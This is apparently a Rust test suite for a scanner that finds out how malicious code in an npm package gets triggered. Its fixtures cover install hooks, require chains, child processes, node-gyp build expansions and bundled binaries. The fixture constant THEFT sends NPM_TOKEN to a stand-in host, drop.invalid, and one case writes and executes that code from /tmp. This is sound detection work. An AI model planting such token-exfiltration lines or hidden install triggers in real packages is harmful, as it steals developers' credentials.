//! Every way in which a package's code comes to run, and the trigger that it runs by.

use stockade_facts::vocabulary::{Sink, Source};
use stockade_facts::{Context, Origin, gather};
use stockade_model::{Limits, Tree, TreeFile, Trigger};

/// Code that sends a secret, wherever it stands.
const THEFT: &str = "require('https').get('https://drop.invalid/?t=' + process.env.NPM_TOKEN);";

/// The trigger of the theft in a release of these files; `THEFT` in a text stands for the code.
fn trigger_of(origin: Origin, files: &[(&str, &str)]) -> Option<Trigger> {
    let file = |(path, text): &(&str, &str)| TreeFile {
        path: (*path).to_owned(),
        bytes: text.replace("THEFT", THEFT).into_bytes().into(),
        is_executable: false,
        reading: 0,
    };
    let tree = Tree::new(files.iter().map(file).collect());
    let context = Context { origin, ..Context::default() };
    let facts = gather(&tree, &context, &Limits::default());
    let flows = facts.flows(Source::is_secret, |sink| matches!(sink, Sink::Network(_)));
    let commands = facts.commands().iter().filter(|command| {
        command
            .behaviours
            .iter()
            .any(|kind| matches!(kind, stockade_facts::read::shell::BehaviourKind::SendsEnvironment { .. }))
    });
    flows.map(|flow| flow.trigger).chain(commands.map(|command| command.trigger)).min()
}

#[track_caller]
fn check(origin: Origin, table: &[(Trigger, &[(&str, &str)])]) {
    let failures: Vec<String> = table
        .iter()
        .map(|(trigger, files)| (trigger, files, trigger_of(origin, files)))
        .filter(|(trigger, _, found)| *found != Some(**trigger))
        .map(|(trigger, files, found)| format!("{trigger:?}, found {found:?}: {files:?}"))
        .collect();
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

fn note(failures: &mut Vec<String>, found: Option<Trigger>, trigger: Trigger, case: &str) {
    if found != Some(trigger) {
        failures.push(format!("found {found:?}: {case}"));
    }
}

/// A package whose hook is `command`.
fn hooked(command: &str) -> String {
    serde_json::json!({"name": "x", "version": "1.0.0", "scripts": {"postinstall": command}}).to_string()
}

#[test]
fn hooks_reach_files_in_every_way() {
    let mut failures = Vec::new();
    for command in [
        "node a.js",
        "node ./a",
        "node -r ./a.js -e 0",
        "node --require=./a.js b.js",
        "node --import ./a.js b.js",
        "NODE_OPTIONS='--require ./a.js' node b.js",
        "cross-env NODE_OPTIONS=--require=./a.js npm run build",
        "export NODE_OPTIONS='-r ./a.js'; node b.js",
        "set NODE_OPTIONS=--require ./a.js&& node b.js",
        "node -e \"require('./a')\"",
        "node -p \"require('./a.js')\"",
        "echo \"require('./a')\" | node",
        "node < a.js",
        "cat a.js | node -",
        "bun a.js",
        "bun run ./a.js",
        "deno run -A a.js",
        "npx tsx a.js",
        "./a.js",
        "sh -c 'node a.js'",
        "cmd /c node a.js",
        "powershell -Command \"node a.js\"",
        "cd lib && node ../a.js",
        "npm run other",
        "yarn other",
        "run-s other",
        "node other.mjs",
        "nohup node a.js &",
        "node node_modules/.bin/../../a.js",
        "python3 start.py",
    ] {
        let manifest = hooked(command).replace("\"scripts\":{", "\"scripts\":{\"other\":\"node a.js\",");
        let files: &[(&str, &str)] = &[
            ("package.json", &manifest),
            ("a.js", "THEFT"),
            ("b.js", "exports.b = 1"),
            ("other.mjs", "import './a.js'"),
            ("start.py", "import subprocess\nsubprocess.run(['node', 'a.js'])"),
        ];
        note(&mut failures, trigger_of(Origin::RegistryDependency, files), Trigger::Install, command);
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn code_reaches_files_in_every_way() {
    let mut failures = Vec::new();
    for code in [
        "require('./a')",
        "require('./' + 'a.js')",
        "require(require('path').join(__dirname, 'a.js'))",
        "import('./a.js')",
        "module.require('./a')",
        "require('module').createRequire(__filename)('./a')",
        "require('child_process').fork('./a.js')",
        "require('child_process').fork(__dirname + '/a.js', [], {detached: true})",
        "require('child_process').fork(require.resolve('./a'))",
        "require('child_process').spawn('node', ['a.js'])",
        "require('child_process').spawn(process.execPath, [__dirname + '/a.js'])",
        "require('child_process').execFile(process.execPath, ['./a.js'])",
        "require('child_process').execFileSync(process.argv[0], [require('path').resolve(__dirname, 'a.js')])",
        "require('child_process').exec('node a.js')",
        "require('child_process').exec(`\"${process.execPath}\" \"${__dirname}/a.js\"`)",
        "require('child_process').execSync('node ' + require('path').join(__dirname, 'a.js'))",
        "require('child_process').spawn('node', ['--require', './a.js', 'b.js'])",
        "new (require('worker_threads').Worker)('./a.js')",
        "new (require('worker_threads').Worker)(new URL('./a.js', 'file://' + __filename))",
        "const {Worker} = require('worker_threads'); new Worker(require('fs').readFileSync(__dirname + '/a.js', 'utf8'), {eval: true})",
        "require('cluster').setupPrimary({exec: './a.js'}); require('cluster').fork()",
        "require('vm').runInThisContext(require('fs').readFileSync(__dirname + '/a.js', 'utf8'))",
        "eval(require('fs').readFileSync(__dirname + '/a.js').toString())",
        "require('fs').writeFileSync('/tmp/z.js', \"require('https').get('https://drop.invalid/?' + process.env.NPM_TOKEN)\"); require('child_process').exec('node /tmp/z.js')",
        "require('child_process').exec(\"node -e \\\"require('./a')\\\"\")",
        "require('child_process').spawn('node', ['-e', \"require('./a')\"])",
        "require('./folder')",
        "require('#inner')",
        "require('x/sub')",
    ] {
        let manifest = r##"{"name": "x", "version": "1.0.0", "main": "index.js",
            "imports": {"#inner": {"node": "./inner/a.js", "default": "./b.js"}}, "exports": {".": "./index.js", "./sub": "./inner/a.js"}}"##;
        // What `imports` and `exports` name is entered by itself; elsewhere only the code leads to it.
        let is_named = code.contains("#inner") || code.contains("x/sub");
        let plain = r#"{"name": "x", "version": "1.0.0", "main": "index.js"}"#;
        let files: &[(&str, &str)] = &[
            ("package.json", if is_named { manifest } else { plain }),
            ("index.js", code),
            ("a.js", if is_named { "" } else { "THEFT" }),
            ("b.js", "exports.b = 1"),
            ("folder/package.json", r#"{"main": "../a.js"}"#),
            ("folder/index.js", "require('../a')"),
            ("inner/a.js", if is_named { "THEFT" } else { "" }),
        ];
        note(&mut failures, trigger_of(Origin::RegistryDependency, files), Trigger::Import, code);
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn manifests_name_entries_by_condition() {
    let mut failures = Vec::new();
    let package = |entry: &str| format!(r#"{{"name": "x", "version": "1.0.0", {entry}}}"#);
    for entry in [
        r#""main": "./lib/a""#,
        r#""module": "lib/a.js""#,
        r#""browser": {"./x.js": "./lib/a.js"}"#,
        r#""exports": "./lib/a.js""#,
        r#""exports": {"node": {"development": "./lib/a.js"}, "default": "./b.js"}"#,
        r#""exports": {"./*": "./lib/*.js"}"#,
        r#""exports": {".": [{"import": "./lib/a.js"}, "./b.js"]}"#,
        r##""imports": {"#a": {"production": "./lib/a.js"}}"##,
        r#""react-native": "lib/a.js""#,
        r#""unpkg": "lib/a.js""#,
        r#""jsnext:main": "lib/a.js""#,
        r#""es2015": "lib/a.js""#,
    ] {
        let manifest = package(entry);
        let files: &[(&str, &str)] = &[("package.json", &manifest), ("lib/a.js", "THEFT"), ("b.js", "")];
        note(&mut failures, trigger_of(Origin::RegistryDependency, files), Trigger::Import, entry);
    }
    for entry in [r#""bin": "lib/a.js""#, r#""bin": {"x": "./lib/a"}"#, r#""directories": {"bin": "lib"}"#] {
        let manifest = package(entry);
        let files: &[(&str, &str)] = &[("package.json", &manifest), ("lib/a.js", "THEFT"), ("index.js", "")];
        note(&mut failures, trigger_of(Origin::RegistryDependency, files), Trigger::Bin, entry);
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn build_files_run_commands_in_every_expansion() {
    let mut failures = Vec::new();
    let manifest = r#"{"name": "x", "version": "1.0.0"}"#;
    for build in [
        "{'targets': [{'target_name': 'x', 'sources': ['<!(node a.js)']}]}",
        "{'targets': [{'target_name': 'x', 'sources': ['<!@(node a.js)']}]}",
        "{'targets': [{'target_name': 'x', 'sources': ['>!(node a.js)']}]}",
        "{'targets': [{'target_name': 'x', 'sources': ['>!@(node a.js)']}]}",
        "{'targets': [{'target_name': 'x', 'sources': ['^!(node a.js)']}]}",
        "{'targets': [{'target_name': 'x', 'sources': ['^!@(node a.js)']}]}",
        "{'variables': {'v%': '<!(node -p \"require(\\'./a\\')\")'}, 'targets': []}",
        "{'targets': [{'target_name': 'x', 'actions': [{'action_name': 'a', 'inputs': [], 'outputs': [], 'action': ['node', 'a.js']}]}]}",
        "{'targets': [{'target_name': 'x', 'rules': [{'rule_name': 'r', 'extension': 'c', 'outputs': [], 'action': ['node', 'a.js']}]}]}",
        "{'targets': [{'target_name': 'x', 'postbuilds': [{'postbuild_name': 'p', 'action': ['node', 'a.js']}]}]}",
        "{'includes': ['more.gypi']}",
        "{'targets': [{'target_name': 'x', 'includes': ['more.gypi']}]}",
        "{'targets': [{'target_name': 'x', 'dependencies': ['deep/deep.gyp:y']}]}",
        "{'targets': [{'target_name': 'x', 'sources': ['<!(python3 start.py)']}]}",
    ] {
        let files: &[(&str, &str)] = &[
            ("package.json", manifest),
            ("binding.gyp", build),
            ("more.gypi", "{'variables': {'v': '<!(node a.js)'}}"),
            ("deep/deep.gyp", "{'targets': [{'target_name': 'y', 'sources': ['<!(node ../a.js)']}]}"),
            ("start.py", "import os\nos.system('node a.js')"),
            ("a.js", "THEFT"),
        ];
        note(&mut failures, trigger_of(Origin::RegistryDependency, files), Trigger::Install, build);
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn git_dependencies_and_projects_have_hooks_of_their_own() {
    let manifest = |hook: &str| {
        serde_json::json!({"name": "x", "version": "1.0.0", "scripts": {hook: "node a.js"}}).to_string()
    };
    for (origin, hook, trigger) in [
        (Origin::GitDependency, "prepare", Trigger::Install),
        (Origin::GitDependency, "install", Trigger::Install),
        (Origin::Project, "prepare", Trigger::Install),
        (Origin::Project, "preinstall", Trigger::Install),
        (Origin::Project, "start", Trigger::Bin),
        (Origin::RegistryDependency, "preinstall", Trigger::Install),
        (Origin::RegistryDependency, "install", Trigger::Install),
    ] {
        let manifest = manifest(hook);
        let files: &[(&str, &str)] = &[("package.json", &manifest), ("a.js", "THEFT"), ("index.js", "")];
        assert_eq!(trigger_of(origin, files), Some(trigger), "{origin:?} {hook}");
    }
}

#[test]
fn a_bundled_binary_shadows_a_command() {
    check(
        Origin::RegistryDependency,
        &[
            (
                Trigger::Install,
                &[
                    (
                        "package.json",
                        r#"{"name": "x", "version": "1.0.0", "scripts": {"install": "node-gyp rebuild"}}"#,
                    ),
                    ("node_modules/.bin/node-gyp", "#!/usr/bin/env node\nTHEFT"),
                    ("index.js", ""),
                ],
            ),
            (
                Trigger::Install,
                &[
                    (
                        "package.json",
                        r#"{"name": "x", "version": "1.0.0", "scripts": {"install": "tool"}, "bundleDependencies": ["tool"]}"#,
                    ),
                    (
                        "node_modules/tool/package.json",
                        r#"{"name": "tool", "version": "1.0.0", "bin": "cli.js"}"#,
                    ),
                    ("node_modules/tool/cli.js", "THEFT"),
                    ("index.js", ""),
                ],
            ),
        ],
    );
}
